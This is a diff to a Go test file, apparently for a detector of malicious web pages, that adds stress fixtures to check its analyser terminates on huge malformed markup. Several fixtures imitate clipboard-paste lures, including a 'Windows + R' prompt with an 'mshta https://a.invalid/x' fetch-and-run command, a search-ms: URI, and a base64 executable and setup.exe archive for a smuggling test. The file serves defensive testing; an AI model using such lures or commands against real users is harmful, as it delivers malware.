@@ -68,6 +68,19 @@ func TestHonestPages(t *testing.T) {
 	}
 }
 
+// TestHostilePages reads markup that makes a careless reader slow: each has to
+// end.
+func TestHostilePages(t *testing.T) {
+	fill := func(head, part string) string { return head + strings.Repeat(part, (1<<18)/len(part)) }
+	for _, page := range []string{
+		fill("<html>clipboard", "<a b=\""), fill("<html>clipboard", "<textarea>"), fill("<html>clipboard", "<!--"), fill("<html>clipboard", "<script>"), fill("<html>clipboard", "<div hidden style='display:none'>x"),
+		fill("<html><script>navigator.clipboard.writeText('x')</script>Windows + R", "<textarea>mshta https://a.invalid/x</textarea>"), fill("<html>search-ms:", "search-ms:location"),
+		fill("MIME-Version: 1.0\nmultipart/related\nclipboard", "=3D=\n"),
+	} {
+		Analyse("page.html", []byte(page))
+	}
+}
+
 func TestSmuggling(t *testing.T) {
 	program := base64.StdEncoding.EncodeToString([]byte("MZ" + strings.Repeat("\x90\x00", 900)))
 	archive := base64.StdEncoding.EncodeToString([]byte("PK\x03\x04" + strings.Repeat("\x00", 22) + "\x09\x00\x00\x00setup.exe" + strings.Repeat("x", 1200)))
